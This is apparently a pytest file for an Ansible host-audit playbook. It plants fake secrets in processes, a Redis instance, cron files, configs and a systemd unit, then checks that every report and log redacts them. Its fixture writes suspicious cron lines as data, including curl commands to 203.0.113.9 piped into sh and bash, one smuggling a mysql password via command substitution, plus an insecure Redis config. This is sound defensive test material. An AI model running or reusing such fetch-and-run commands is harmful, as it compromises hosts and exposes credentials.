"""Secrets never reach any output (issue 17): plant distinct secrets in live processes' command
lines, a live Redis, cron lines, configs and a unit's Environment=, run the full
playbooks/audit.yml with -v (the live host for the processes, an alternate root for the planted
files, a no_log area option), then grep every artefact (reports, JUnit, HTML, history, fleet,
the ansible output) for each secret: none may appear. The redacted shapes must appear instead
(so the test fails if the audit stopped looking at the planted inputs)."""
import os
import subprocess
import sys

import pytest

from redis_helpers import RedisInstance, free_port
from test_audit_playbook import run_playbook

SECRETS = {
    # live processes (oom likely_victims, redis instance inventory)
    "proc_password": "HGPLANT-proc-pw-4f1a",
    "proc_token": "HGPLANT-proc-tok-9b2c",
    "proc_url": "HGPLANT-proc-url-77aa",
    "proc_github": "ghp_HGPLANTgithub0123456789abcdefABCD",
    "redis_requirepass": "HGPLANT-redis-live-31ee",
    # the alternate root
    "cron_curl_user": "HGPLANT-cron-curl-5d5d",
    "cron_mysql": "HGPLANT-cron-mysql-6e6e",
    "cron_env": "HGPLANT-cron-env-8a8a",
    "redis_conf_requirepass": "HGPLANT-conf-req-1212",
    "redis_conf_masterauth": "HGPLANT-conf-master-3434",
    "unit_environment": "HGPLANT-unit-env-5656",
    "aws_key": "AKIAHGPLANT000000001",
    # a no_log area option
    "option_password": "HGPLANT-option-pw-7878",
}


def _sleeper(args):
    """A process whose argv carries secrets, made the first OOM victim (raising one's own
    oom_score_adj needs no privilege)."""
    code = "import time\nfor _ in range(600):\n    time.sleep(1)\n"
    proc = subprocess.Popen([sys.executable, "-c", code] + args, stdin=subprocess.DEVNULL,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    with open("/proc/%d/oom_score_adj" % proc.pid, "w") as handle:
        handle.write("1000\n")
    return proc


@pytest.fixture
def planted(tmp_path):
    s = SECRETS
    procs = [_sleeper(["--password=" + s["proc_password"], "--token", s["proc_token"],
                       "postgres://app:%s@db.example/x" % s["proc_url"], s["proc_github"]])]
    redis = RedisInstance(tmp_path / "redis", ["requirepass " + s["redis_requirepass"]], free_port())
    redis.start()
    root = tmp_path / "root"
    files = {
        "etc/passwd": "root:x:0:0:root:/root:/bin/sh\n",
        "etc/cron.d/planted":
            "MAILTO=root\nAPP_TOKEN=%s\n" % s["cron_env"] +
            "* * * * * root curl -u admin:%s http://203.0.113.9/x | sh\n" % s["cron_curl_user"] +
            "*/5 * * * * root curl http://203.0.113.9/$(mysql -p%s -e 'x') | bash\n" % s["cron_mysql"] +
            "0 * * * * root AWS_ACCESS_KEY_ID=%s /tmp/.x/run\n" % s["aws_key"],
        "etc/redis/redis.conf":
            "bind 0.0.0.0\nprotected-mode no\nrequirepass %s\nmasterauth %s\n"
            % (s["redis_conf_requirepass"], s["redis_conf_masterauth"]),
        "etc/systemd/system/redis-server.service":
            "[Service]\nExecStart=/usr/bin/redis-server /etc/redis/redis.conf\n"
            "Environment=\"DB_PASSWORD=%s\"\n" % s["unit_environment"],
    }
    for rel, text in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    os.chmod(str(root / "etc/redis/redis.conf"), 0o644)
    try:
        yield root
    finally:
        for proc in procs:
            proc.kill()
            proc.wait(10)
        redis.stop()


def _artefacts(directory):
    for base, _dirs, names in os.walk(str(directory)):
        for name in names:
            path = os.path.join(base, name)
            with open(path, "rb") as handle:
                yield path, handle.read()


def test_no_planted_secret_reaches_any_output(planted, tmp_path):
    reports = tmp_path / "reports"
    option = '{"hostguard_area_options": {"redis": {"password": "%s"}}}' % SECRETS["option_password"]
    outputs = []
    for root in ("/", str(planted)):
        proc = run_playbook("-v", "-e", "hostguard_report_dir=%s" % reports,
                            "-e", "hostguard_root=%s" % root, "-e", option)
        assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
        outputs.append(("ansible-playbook -v (root %s)" % root, (proc.stdout + proc.stderr).encode()))
    artefacts = list(_artefacts(reports)) + outputs
    names = [p for p, _d in artefacts]
    assert any(p.endswith(".json") for p in names) and any(p.endswith(".html") for p in names)
    assert any("fleet" in p for p in names) and any(p.endswith(".xml") for p in names), names
    leaks = [(name, path) for path, data in artefacts for name, secret in SECRETS.items()
             if secret.encode() in data]
    assert leaks == [], leaks
    # the audit did look at the planted inputs: their redacted forms are in the reports
    blob = b"\n".join(d for _p, d in artefacts)
    assert b"admin:<redacted>@" in blob or b"-u admin:<redacted>" in blob
    assert b"--token <redacted>" in blob or b"--token\", \"<redacted>" in blob
